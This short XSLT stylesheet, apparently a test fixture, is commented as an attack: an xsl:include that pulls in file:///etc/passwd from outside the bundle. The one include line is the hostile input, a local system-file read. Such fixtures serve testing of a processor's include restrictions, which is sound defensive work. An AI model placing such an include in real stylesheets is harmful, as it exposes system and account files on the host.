<?xml version="1.0" encoding="UTF-8"?>
<!-- Attack: a stylesheet module pulled in from outside the bundle. -->
<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:include href="file:///etc/passwd"/>
</xsl:stylesheet>
